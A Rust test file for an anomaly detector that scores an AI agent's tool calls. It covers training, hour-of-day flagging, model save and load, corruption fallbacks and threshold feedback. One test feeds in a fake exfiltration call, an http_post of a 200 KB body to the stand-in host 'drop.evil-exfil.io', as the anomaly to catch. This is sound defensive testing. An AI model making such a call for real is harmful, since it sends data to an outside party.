use super::*;
use harombe_core::Outcome;
use serde_json::json;
use time::Duration;
use time::macros::datetime;

fn agent() -> AgentId {
    AgentId::new("agent-1").unwrap()
}

/// A working-hours agent: three tools, small arguments, one internal host.
fn normal_events(n: usize) -> Vec<AuditEvent> {
    let t0 = datetime!(2025-03-03 08:00 UTC);
    let tools = ["read_file", "search", "write_file"];
    (0..n)
        .map(|i| {
            let day = (i / 40) as i64;
            let minute = (i % 40) as i64 * 13 + (i as i64 * 7) % 5;
            let t = t0 + Duration::days(day) + Duration::minutes(minute);
            let tool = tools[(i * 7 + i / 3) % 3];
            let mut e = AuditEvent::new(t, EventKind::ToolCall, Outcome::Success)
                .with_agent(agent())
                .with_target(tool);
            e.arguments = Some(json!({"path": format!("/srv/docs/{}.md", i % 17), "q": "x".repeat(10 + i % 30), "host": "wiki.corp.internal"}));
            e.duration_us = Some(20_000 + (i as u64 % 11) * 3_000);
            e.bytes_out = 800 + (i as u64 % 13) * 97;
            e
        })
        .collect()
}

fn trained() -> AgentDetector {
    let mut d = AgentDetector::new(agent(), DetectorConfig::default()).unwrap();
    let r = d.train(&normal_events(400)).unwrap();
    assert_eq!(r.events, 400);
    assert_eq!(r.mode, ScoringMode::Dual);
    d
}

fn live(t: OffsetDateTime, tool: &str, args: serde_json::Value) -> CallFeatures {
    CallFeatures::new(t, tool).with_arguments(&args)
}

#[test]
fn normal_call_passes_and_exfiltration_is_flagged() {
    let mut d = trained();
    let t = datetime!(2025-03-13 10:17 UTC);
    let ok = d
        .detect(&live(
            t,
            "read_file",
            json!({"path": "/srv/docs/3.md", "q": "xxxxxxxxxxxxxxx", "host": "wiki.corp.internal"}),
        ))
        .unwrap();
    assert!(!ok.is_anomaly, "{ok:?}");
    assert_eq!(ok.mode, ScoringMode::Dual);
    let bad = d
        .detect(&live(
            datetime!(2025-03-14 03:12 UTC),
            "http_post",
            json!({"url": "https://drop.evil-exfil.io/u", "body": "A".repeat(200_000)}),
        ))
        .unwrap();
    assert!(bad.is_anomaly, "{bad:?}");
    assert!(bad.threat_level >= ThreatLevel::Medium);
    assert!(bad.contributing_factors["arg_bytes"] > 3.0);
    assert!(bad.contributing_factors.contains_key("forest_score"));
    assert!(bad.explanation.contains("anomalous"), "{}", bad.explanation);
}

#[test]
fn a_call_in_an_hour_never_seen_is_flagged_unless_the_rule_is_off() {
    // The trained agent works 08:00-16:40 UTC; this is an ordinary call at 03:20. A
    // threshold of 0.999 keeps the combined score alone from flagging it.
    let night = live(
        datetime!(2025-03-13 03:20 UTC),
        "read_file",
        json!({"path": "/srv/docs/3.md", "q": "xxxxxxxxxxxxxxx", "host": "wiki.corp.internal"}),
    );
    let with_rule = |on: bool, events: usize| {
        let mut d = AgentDetector::new(
            agent(),
            DetectorConfig {
                threshold: 0.999,
                max_threshold: 0.999,
                flag_unseen_hours: on,
                ..DetectorConfig::default()
            },
        )
        .unwrap();
        d.train(&normal_events(events)).unwrap();
        d
    };
    // 400 events are ten working days.
    let mut off = with_rule(false, 400);
    let scored = off.detect(&night).unwrap();
    assert!(scored.anomaly_score < 0.999, "{scored:?}");
    assert!(!scored.is_anomaly, "{scored:?}");

    let mut on = with_rule(true, 400);
    let flagged = on.detect(&night).unwrap();
    assert!(flagged.is_anomaly, "{flagged:?}");
    assert!(flagged.anomaly_score >= 0.999);
    assert!(flagged.threat_level >= ThreatLevel::Medium);
    assert!(
        flagged.explanation.contains("unusual hour"),
        "{}",
        flagged.explanation
    );
    // A flagged call is not learned: the next one at that hour is flagged too.
    assert!(on.detect(&night).unwrap().is_anomaly);

    // An hour the agent has been active in is not flagged by the rule.
    let day = live(
        datetime!(2025-03-13 11:05 UTC),
        "read_file",
        json!({"path": "/srv/docs/3.md", "q": "xxxxxxxxxxxxxxx", "host": "wiki.corp.internal"}),
    );
    assert!(!on.detect(&day).unwrap().is_anomaly);

    // Five days of history are too few to know the agent's hours: no flag from the rule.
    let mut young = with_rule(true, 200);
    assert!(!young.detect(&night).unwrap().is_anomaly);
}

#[test]
fn a_config_without_the_hour_rule_reads_as_on() {
    let c: DetectorConfig = serde_json::from_str(r#"{"threshold": 0.7}"#).unwrap();
    assert!(c.flag_unseen_hours);
}

#[test]
fn too_few_events_is_an_error_and_learning_mode() {
    let mut d = AgentDetector::new(agent(), DetectorConfig::default()).unwrap();
    let err = d.train(&normal_events(50)).unwrap_err();
    assert!(matches!(
        err,
        DetectError::InsufficientSamples {
            have: 50,
            need: 100,
            ..
        }
    ));
    assert!(err.is_retriable());
    let r = d
        .detect(&live(
            datetime!(2025-03-13 10:00 UTC),
            "read_file",
            json!({}),
        ))
        .unwrap();
    assert_eq!(
        r.mode,
        ScoringMode::Learning {
            have: 50,
            need: 100
        }
    );
    assert!(!r.is_anomaly);
    assert_eq!(r.anomaly_score, 0.0);
}

#[test]
fn empty_and_constant_training_data_fall_back_to_baseline() {
    let mut d = AgentDetector::new(agent(), DetectorConfig::default()).unwrap();
    assert!(matches!(
        d.train(&[]),
        Err(DetectError::InsufficientSamples { have: 0, .. })
    ));
    // Identical rows: the forest cannot split; the baseline still scores.
    let t = datetime!(2025-03-03 10:00 UTC);
    let mut m = DualModel::new(
        DualConfig {
            min_samples: 5,
            ..DualConfig::default()
        },
        2,
    );
    let rows: Vec<TrainRow<'_>> = (0..10)
        .map(|i| TrainRow {
            at: t + Duration::hours(i),
            kind: "tool_call",
            values: &[1.0, 2.0],
            missing: 0,
        })
        .collect();
    let err = m.train("a", &["x", "y"], &rows, &[]).unwrap_err();
    assert!(
        matches!(err, DetectError::DegenerateTrainingData { .. }),
        "{err}"
    );
    assert_eq!(err.reason(), "degenerate_training_data");
    let s = m.score(
        t,
        &[1.0, 2.0],
        0,
        &FeatureLayout {
            min_std: vec![0.1, 0.1],
            hour_dow: None,
            skip: 0,
        },
    );
    assert!(
        matches!(s.mode, ScoringMode::BaselineOnly { ref reason } if reason.contains("identical"))
    );
    let s = m.score(
        t,
        &[9.0, 2.0],
        0,
        &FeatureLayout {
            min_std: vec![0.1, 0.1],
            hour_dow: None,
            skip: 0,
        },
    );
    assert_eq!(s.score, 1.0);
}

#[test]
fn non_finite_features_are_refused() {
    let d = trained();
    let mut fv = d.extractor().compute(&live(
        datetime!(2025-03-13 10:00 UTC),
        "read_file",
        json!({}),
    ));
    fv.values[idx::ARG_BYTES] = f64::NAN;
    let err = d
        .detect_vector(datetime!(2025-03-13 10:00 UTC), &fv)
        .unwrap_err();
    assert!(
        matches!(
            err,
            DetectError::NonFinite {
                feature: "arg_bytes",
                ..
            }
        ),
        "{err}"
    );
    fv.values[idx::ARG_BYTES] = f64::INFINITY;
    assert!(
        d.detect_vector(datetime!(2025-03-13 10:00 UTC), &fv)
            .is_err()
    );
}

#[test]
fn save_load_round_trip_scores_identically() {
    let d = trained();
    let bytes = d.to_bytes().unwrap();
    assert!(bytes.len() < 200 * 1024, "model is {} bytes", bytes.len());
    let back = AgentDetector::from_bytes(&bytes).unwrap();
    assert_eq!(back, d);
    let fv = d.extractor().compute(&live(
        datetime!(2025-03-13 10:00 UTC),
        "search",
        json!({"q": "abc"}),
    ));
    let a = d
        .detect_vector(datetime!(2025-03-13 10:00 UTC), &fv)
        .unwrap();
    let b = back
        .detect_vector(datetime!(2025-03-13 10:00 UTC), &fv)
        .unwrap();
    assert_eq!(a, b);
}

#[test]
fn damaged_or_foreign_model_files_are_clear_errors() {
    let d = trained();
    let bytes = d.to_bytes().unwrap();
    // Files of version 1 (raw hour and day features) and of a future version are refused
    // with the version error; the caller then scores baseline-only.
    for other in [1u8, 3] {
        let mut v = bytes.clone();
        v[8] = other;
        assert!(matches!(
            AgentDetector::from_bytes(&v),
            Err(DetectError::ModelVersion {
                found,
                supported: persist::FORMAT_VERSION,
            }) if found == u32::from(other)
        ));
    }
    let mut flipped = bytes.clone();
    flipped[30] ^= 0xff;
    assert!(matches!(
        AgentDetector::from_bytes(&flipped),
        Err(DetectError::ModelCorrupted { .. })
    ));
    assert!(matches!(
        AgentDetector::from_bytes(b"{\"json\":1}"),
        Err(DetectError::WrongFormat { .. })
    ));
    assert!(matches!(
        AgentDetector::from_bytes(&bytes[..40]),
        Err(DetectError::ModelCorrupted { .. })
    ));
    // A damaged forest keeps the baseline: baseline-only, with the reason.
    let mut forest_hit = bytes.clone();
    let n = forest_hit.len();
    forest_hit[n - 10] ^= 0x55;
    let back = AgentDetector::from_bytes(&forest_hit).unwrap();
    assert!(
        matches!(back.mode(), ScoringMode::BaselineOnly { ref reason } if reason.contains("forest"))
    );
}

#[test]
fn registry_save_load_and_fallback_on_corruption() {
    let dir = tempfile::tempdir().unwrap();
    let mut det =
        AnomalyDetector::new(DetectorConfig::default(), Some(dir.path().to_owned())).unwrap();
    det.train(&agent(), &normal_events(300)).unwrap();
    let path = det.save(&agent()).unwrap();
    let mut fresh =
        AnomalyDetector::new(DetectorConfig::default(), Some(dir.path().to_owned())).unwrap();
    assert_eq!(fresh.load(&agent()).unwrap(), ScoringMode::Dual);
    // Corrupt the state section: load fails, the in-memory agent drops its forest.
    let mut b = std::fs::read(&path).unwrap();
    b[40] ^= 1;
    std::fs::write(&path, b).unwrap();
    assert!(fresh.load(&agent()).is_err());
    let r = fresh
        .detect(
            &agent(),
            &live(datetime!(2025-03-13 10:00 UTC), "search", json!({})),
        )
        .unwrap();
    assert!(
        matches!(r.mode, ScoringMode::BaselineOnly { ref reason } if reason.contains("unusable")),
        "{:?}",
        r.mode
    );
}

#[test]
fn feedback_adapts_threshold_and_survives_save() {
    let mut d = trained();
    let r = d
        .detect(&live(
            datetime!(2025-03-14 03:12 UTC),
            "backup",
            json!({"url": "https://backup.example.com/x", "blob": "B".repeat(50_000)}),
        ))
        .unwrap();
    let t0 = d.threshold();
    d.feedback(&r, Feedback::FalsePositive).unwrap();
    assert!(d.threshold() > t0);
    assert_eq!(d.feedback_counts(), (1, 0));
    d.feedback(&r, Feedback::Confirmed).unwrap();
    assert!(d.threshold() >= DetectorConfig::default().threshold);
    let back = AgentDetector::from_bytes(&d.to_bytes().unwrap()).unwrap();
    assert_eq!(back.threshold(), d.threshold());
    assert_eq!(back.feedback_counts(), (1, 1));
    // The false positive is part of the next training set.
    let report = d.train(&normal_events(300)).unwrap();
    assert_eq!(report.feedback_rows, 3);
}

#[test]
fn levels_follow_the_score() {
    assert_eq!(level_for(0.1, 0.7), ThreatLevel::None);
    assert_eq!(level_for(0.5, 0.7), ThreatLevel::Low);
    assert_eq!(level_for(0.72, 0.7), ThreatLevel::Medium);
    assert_eq!(level_for(0.85, 0.7), ThreatLevel::High);
    assert_eq!(level_for(0.95, 0.7), ThreatLevel::Critical);
}
